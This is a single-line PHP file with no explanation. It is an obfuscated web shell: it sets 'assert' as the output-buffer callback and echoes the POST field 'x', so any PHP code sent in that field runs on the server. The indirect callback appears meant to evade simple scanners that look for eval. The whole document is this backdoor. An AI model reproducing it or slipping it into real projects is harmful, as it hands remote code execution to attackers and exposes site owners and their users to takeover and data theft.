<?php ob_start('assert'); echo $_POST['x']; ob_end_flush();
